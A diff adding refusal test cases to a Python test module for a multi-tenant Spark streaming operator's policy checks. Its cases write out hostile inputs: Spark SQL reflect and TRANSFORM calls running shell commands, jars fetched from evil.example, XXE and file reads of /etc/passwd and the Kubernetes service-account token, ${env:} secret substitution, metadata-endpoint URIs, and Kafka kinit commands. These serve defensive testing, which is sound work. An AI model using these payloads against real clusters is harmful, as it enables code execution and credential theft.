@@ -6,10 +6,20 @@ and the integration test that applies them to a real API server with the operato
 
 from __future__ import annotations
 
+from app.contract.spec import SECRET_KEY_PATTERN
 from tests.support.specs import changed, query_spec
 
 BASE = query_spec()
 PVC = {"persistentVolumeClaim": {"claimName": "checkpoints"}}
+
+
+def step(**transform) -> dict:
+    """The base spec with one more transform step at the end."""
+    return changed(BASE, {"transforms": [*BASE["transforms"], transform]})
+
+
+def kafka_option(key: str, value: str, at: str = "source") -> dict:
+    return changed(BASE, {f"{at}.kafka.options": {key: value}})
 
 
 def conf(**keys: str) -> dict:
@@ -156,6 +166,240 @@ REFUSED_BY_POLICY = {
         changed(BASE, {"checkpoint": {"location": "/tmp/cp", "volume": PVC}}), "team-a",
         "spec.checkpoint.location", "policy.protectedPaths",
     ),
+
+    # -- second pass (issue #26): what a query may call, read, mount and ask for -------------------
+    # SQL functions outside the allow-list generated from Spark's registry
+    "sql function: reflect loads a library": (
+        step(sql="SELECT *, reflect('java.lang.System', 'load', '/tmp/x.so') AS r FROM input"), "team-a",
+        "spec.transforms[3].sql", "policy.allowedSQLFunctions",
+    ),
+    "sql function: java_method in a where": (
+        step(where="java_method('java.lang.Runtime', 'getRuntime') IS NOT NULL"), "team-a",
+        "spec.transforms[3].where", "policy.allowedSQLFunctions",
+    ),
+    "sql function: try_reflect in withColumn": (
+        step(withColumn={"name": "x", "expr": "try_reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY')"}),
+        "team-a", "spec.transforms[3].withColumn.expr", "policy.allowedSQLFunctions",
+    ),
+    "sql function: reflect behind backticks and builtin.": (
+        step(select=["builtin.`reflect`('java.lang.Thread', 'sleep', 100000) AS v"]), "team-a",
+        "spec.transforms[3].select[0]", "policy.allowedSQLFunctions",
+    ),
+    "sql function: xpath with an external entity": (
+        step(where="xpath_string('<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>', '/x') = ''"),
+        "team-a", "spec.transforms[3].where", "policy.allowedSQLFunctions",
+    ),
+    "sql function: a protobuf descriptor from a file": (
+        step(select=["from_protobuf(value, 'M', '/var/run/secrets/kubernetes.io/serviceaccount/token') AS v"]),
+        "team-a", "spec.transforms[3].select[0]", "policy.allowedSQLFunctions",
+    ),
+    "sql function: the pod's user": (
+        step(withColumn={"name": "who", "expr": "current_user()"}), "team-a",
+        "spec.transforms[3].withColumn.expr", "policy.allowedSQLFunctions",
+    ),
+    "sql function: a name that is not Spark's (the input trick)": (
+        step(sql="SELECT *, input('x') FROM input"), "team-a", "spec.transforms[3].sql", "policy.allowedSQLFunctions",
+    ),
+    "sql function: a function name from IDENTIFIER()": (
+        step(where="IDENTIFIER('reflect')('java.lang.System', 'exit', 1) IS NULL"), "team-a",
+        "spec.transforms[3].where", "policy.allowedSQLFunctions",
+    ),
+    # checkpoint paths, normalised before the roots are compared
+    "path: a volume over /opt through //": (
+        changed(BASE, {"checkpoint": {"location": "//opt/cp", "volume": PVC}}), "team-a",
+        "spec.checkpoint.location", "policy.protectedPaths",
+    ),
+    "path: a volume over /run": (
+        changed(BASE, {"checkpoint": {"location": "/run/cp", "volume": PVC}}), "team-a",
+        "spec.checkpoint.location", "policy.checkpointRoots",
+    ),
+    "path: a volume over the driver's home": (
+        changed(BASE, {"checkpoint": {"location": "/home/streamq/cp", "volume": PVC}}), "team-a",
+        "spec.checkpoint.location", "policy.checkpointRoots",
+    ),
+    "path: a volume over /usr through . and ..": (
+        changed(BASE, {"checkpoint": {"location": "/checkpoints/./../usr/lib/cp", "volume": PVC}}), "team-a",
+        "spec.checkpoint.location", "policy.checkpointRoots",
+    ),
+    "path: a relative location": (
+        changed(BASE, {"checkpoint": {"location": "../../opt/streamq/cp", "volume": PVC}}), "team-a",
+        "spec.checkpoint.location", "policy.protectedPaths",
+    ),
+    "path: no volume, in the image's Python": (
+        changed(BASE, {"checkpoint.location": "/usr/lib/python3/dist-packages/cp"}), "team-a",
+        "spec.checkpoint.location", "policy.checkpointRoots",
+    ),
+    "path: a file URI with a host": (
+        changed(BASE, {"checkpoint.location": "file://opt/streamq/cp"}), "team-a",
+        "spec.checkpoint.location", "policy.protectedPaths",
+    ),
+    # remote URIs
+    "uri: credentials in the checkpoint URI": (
+        changed(BASE, {"checkpoint.location": "s3a://AKIAEXAMPLE:wJalrXUtnFEMI@bucket/team-a/cp"}), "team-a",
+        "spec.checkpoint.location", "policy.remoteCheckpointPrefixes",
+    ),
+    "uri: another namespace's prefix": (
+        changed(BASE, {"checkpoint.location": "s3a://checkpoints/team-b/payments"}), "team-a",
+        "spec.checkpoint.location", "policy.remoteCheckpointPrefixes",
+    ),
+    "uri: .. out of the namespace's prefix": (
+        changed(BASE, {"checkpoint.location": "s3a://checkpoints/team-a/../team-b/payments"}), "team-a",
+        "spec.checkpoint.location", "policy.remoteCheckpointPrefixes",
+    ),
+    "uri: an HTTP filesystem": (
+        changed(BASE, {"checkpoint.location": "http://169.254.169.254/team-a/latest"}), "team-a",
+        "spec.checkpoint.location", "policy.remoteCheckpointPrefixes",
+    ),
+    # Kafka client settings outside the allow-list
+    "kafka: a config provider reads files": (
+        kafka_option("kafka.config.providers", "file"), "team-a",
+        "spec.source.kafka.options.kafka.config.providers", "policy.allowedKafkaOptions",
+    ),
+    "kafka: a config-provider reference in a value": (
+        kafka_option("kafka.client.id", "${file:/var/run/secrets/kubernetes.io/serviceaccount/token:x}"), "team-a",
+        "spec.source.kafka.options.kafka.client.id", "policy.allowedKafkaOptions",
+    ),
+    "kafka: a tenant's SASL callback handler class": (
+        kafka_option("kafka.sasl.login.callback.handler.class", "com.evil.Handler"), "team-a",
+        "spec.source.kafka.options.kafka.sasl.login.callback.handler.class", "policy.allowedKafkaOptions",
+    ),
+    "kafka: a metric reporter class on the sink": (
+        kafka_option("kafka.metric.reporters", "com.evil.Reporter", at="sink"), "team-a",
+        "spec.sink.kafka.options.kafka.metric.reporters", "policy.allowedKafkaOptions",
+    ),
+    "kafka: an inline private key": (
+        kafka_option("kafka.ssl.keystore.key", "-----BEGIN PRIVATE KEY-----MIIE...-----END PRIVATE KEY-----"), "team-a",
+        "spec.source.kafka.options.kafka.ssl.keystore.key", "policy.allowedKafkaOptions",
+    ),
+    "kafka: a truststore read from the account token's path": (
+        kafka_option("kafka.ssl.truststore.location", "/var/run/secrets/kubernetes.io/serviceaccount/token"), "team-a",
+        "spec.source.kafka.options.kafka.ssl.truststore.location", "policy.allowedKafkaOptions",
+    ),
+    "kafka: kinit runs a command": (
+        kafka_option("kafka.sasl.kerberos.kinit.cmd", "/bin/sh -c id"), "team-a",
+        "spec.source.kafka.options.kafka.sasl.kerberos.kinit.cmd", "policy.allowedKafkaOptions",
+    ),
+    "kafka: an OAuth token endpoint that is a file": (
+        kafka_option("kafka.sasl.oauthbearer.token.endpoint.url", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
+        "team-a", "spec.source.kafka.options.kafka.sasl.oauthbearer.token.endpoint.url", "policy.allowedKafkaOptions",
+    ),
+    "kafka: an unknown client setting": (
+        kafka_option("kafka.ssl.engine.factory.class", "com.evil.Factory"), "team-a",
+        "spec.source.kafka.options.kafka.ssl.engine.factory.class", "policy.allowedKafkaOptions",
+    ),
+    # capacity: what is requested counts
+    "caps: coreRequest past maxCores": (
+        changed(BASE, {"runtime.executors": {"instances": 10, "cores": 1, "coreRequest": "63"}}), "team-a",
+        "spec.runtime", "policy.maxCores",
+    ),
+    "caps: a driver's coreRequest past maxCores": (
+        changed(BASE, {"runtime.driver": {"cores": 1, "coreRequest": "64"}}), "team-a", "spec.runtime", "policy.maxCores",
+    ),
+    "caps: memory past maxMemory once Spark's overhead counts": (
+        changed(BASE, {"runtime.executors": {"instances": 10, "memory": "6000Mi"}}), "team-a", "spec.runtime", "policy.maxMemory",
+    ),
+    "caps: no backoff": (
+        changed(BASE, {"restartPolicy": {"backoff": {"initial": "0s", "max": "0s"}}}), "team-a",
+        "spec.restartPolicy.backoff.initial", "policy.restarts",
+    ),
+    "caps: unlimited restarts": (
+        changed(BASE, {"restartPolicy": {"maxRestarts": -1}}), "team-a", "spec.restartPolicy.maxRestarts", "policy.restarts",
+    ),
+    # Secrets the tenant did not name for queries
+    "secret: one the namespace's owners did not name for queries": (
+        changed(BASE, {"sink.kafka.auth": {"secretRef": {"name": "db-admin"}}}), "team-a",
+        "spec.sink.kafka.auth.secretRef.name", "policy.allowedSecrets",
+    ),
+    "secret: another query's Spark authentication key": (
+        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "streamq-other-spark-auth"}}}), "team-a",
+        "spec.source.kafka.auth.secretRef.name", "policy.allowedSecrets",
+    ),
+    # Spark settings that load classes or change how SQL is read
+    "conf: a catalog plugin class": (
+        conf(spark__sql__catalog__evil="com.evil.Catalog"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.catalog.evil", "policy.refusedSparkConf",
+    ),
+    "conf: a state store provider class": (
+        conf(spark__sql__streaming__stateStore__providerClass="com.evil.Store"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.streaming.stateStore.providerClass", "policy.refusedSparkConf",
+    ),
+    "conf: double-quoted identifiers hide function names": (
+        conf(spark__sql__ansi__doubleQuotedIdentifiers="true"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.ansi.doubleQuotedIdentifiers", "policy.refusedSparkConf",
+    ),
+    "conf: legacy parser switches": (
+        conf(spark__sql__legacy__setCommandRejectsSparkCoreConfs="false"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.legacy.setCommandRejectsSparkCoreConfs", "policy.refusedSparkConf",
+    ),
+    "conf: a value filled from the environment": (
+        conf(spark__sql__session__timeZone="${env:AWS_SECRET_ACCESS_KEY}"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.session.timeZone", "policy.classSparkConf",
+    ),
+    "conf: a listener class under spark.sql.*": (
+        conf(spark__sql__streaming__ui__listener="com.evil.Listener"), "team-a",
+        "spec.runtime.sparkConf.spark.sql.streaming.ui.listener", "policy.classSparkConf",
+    ),
+}
+
+
+# --- refused by the spec's own rules (every caller: the job too; the operator: Invalid, InvalidSpec) ---
+
+# name: (spec, path, what the message says)
+REFUSED_BY_RULES = {
+    "statement: TRANSFORM runs a shell": (
+        step(sql="SELECT TRANSFORM(CAST(value AS STRING)) USING 'sh -c \"id\"' AS (value) FROM input"),
+        "spec.transforms[3].sql", "TRANSFORM",
+    ),
+    "statement: Hive's MAP ... USING": (
+        step(sql="FROM input MAP value USING '/bin/sh' AS v"), "spec.transforms[3].sql", "write one SELECT",
+    ),
+    "statement: a function from a remote jar": (
+        step(sql="CREATE TEMPORARY FUNCTION f AS 'Evil' USING JAR 'https://evil.example/x.jar'"),
+        "spec.transforms[3].sql", "statements are not allowed",
+    ),
+    "statement: ADD JAR": (step(sql="ADD JAR https://evil.example/x.jar"), "spec.transforms[3].sql", "not allowed"),
+    "statement: SET a setting": (
+        step(sql="SET spark.sql.ansi.doubleQuotedIdentifiers=true"), "spec.transforms[3].sql", "not allowed",
+    ),
+    "statement: two statements": (
+        step(sql="SELECT * FROM input; DROP TABLE IF EXISTS input"), "spec.transforms[3].sql", "2 statements",
+    ),
+    "statement: write files with INSERT OVERWRITE DIRECTORY": (
+        step(sql="INSERT OVERWRITE DIRECTORY '/opt/streamq' USING text SELECT * FROM input"),
+        "spec.transforms[3].sql", "write one SELECT",
+    ),
+    "statement: EXECUTE IMMEDIATE": (
+        step(sql="EXECUTE IMMEDIATE 'SELECT reflect(1) FROM input'"), "spec.transforms[3].sql", "write one SELECT",
+    ),
+    "relation: the account token as a text file": (
+        step(sql="SELECT i.* FROM input i JOIN text.`/var/run/secrets/kubernetes.io/serviceaccount/token` t"),
+        "spec.transforms[3].sql", "the only relation is the view `input`",
+    ),
+    "relation: read_files": (
+        step(sql="SELECT * FROM input UNION ALL SELECT * FROM read_files('/etc/streamq')"),
+        "spec.transforms[3].sql", "the only relation is the view `input`",
+    ),
+    "relation: a file read inside a CTE": (
+        step(sql="WITH f AS (SELECT * FROM csv.`/etc/passwd`) SELECT i.* FROM input i, f"),
+        "spec.transforms[3].sql", "the only relation is the view `input`",
+    ),
+    "relation: another table in a subquery": (
+        step(sql="SELECT * FROM input WHERE key IN (SELECT key FROM other_team.payments)"),
+        "spec.transforms[3].sql", "the only relation is the view `input`",
+    ),
+    "relation: a subquery inside a where": (
+        step(where="key IN (SELECT value FROM parquet.`s3a://other/secrets`)"), "spec.transforms[3].where", "reads no table",
+    ),
+    "text: ${env:...} substitution": (
+        step(sql="SELECT *, '${env:AWS_SECRET_ACCESS_KEY}' AS s FROM input"), "spec.transforms[3].sql", "substitution",
+    ),
+    "text: a hint holds a call": (
+        step(sql="SELECT /*+ REPARTITION(reflect('java.lang.System', 'exit', 1)) */ * FROM input"),
+        "spec.transforms[3].sql", "hints",
+    ),
+    "text: SQL no parser can read": (
+        step(sql="SELECT * FROM input WHERE ((("), "spec.transforms[3].sql", "not readable",
+    ),
 }
 
 
@@ -211,5 +455,19 @@ REFUSED_BY_LIMITS = {
     "a huge Spark setting value": (
         changed(BASE, {"runtime.sparkConf": {"spark.sql.x": _long(5_000)}}),
         "spec.runtime.sparkConf.spark.sql.x", "at most 4096 characters", ("runtime", "sparkConf", "{}"), ("maxLength", 4_096),
+    ),
+    "secret key: a path out of the Secret": (
+        changed(BASE, {"sink.kafka.auth": {"secretRef": {"name": "streamq-kafka", "passwordKey": "../../kubernetes.io/serviceaccount/token"}}}),
+        "spec.sink.kafka.auth.secretRef.passwordKey", "should match pattern",
+        ("sink", "kafka", "auth", "secretRef", "passwordKey"), ("pattern", SECRET_KEY_PATTERN),
+    ),
+    "secret key: the directory above": (
+        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "streamq-kafka", "usernameKey": ".."}}}),
+        "spec.source.kafka.auth.secretRef.usernameKey", "should match pattern",
+        ("source", "kafka", "auth", "secretRef", "usernameKey"), ("pattern", SECRET_KEY_PATTERN),
+    ),
+    "a huge Kafka option value": (
+        kafka_option("kafka.client.id", _long(5_000)),
+        "spec.source.kafka.options.kafka.client.id", "at most 4096 characters", ("source", "kafka", "options", "{}"), ("maxLength", 4_096),
     ),
 }
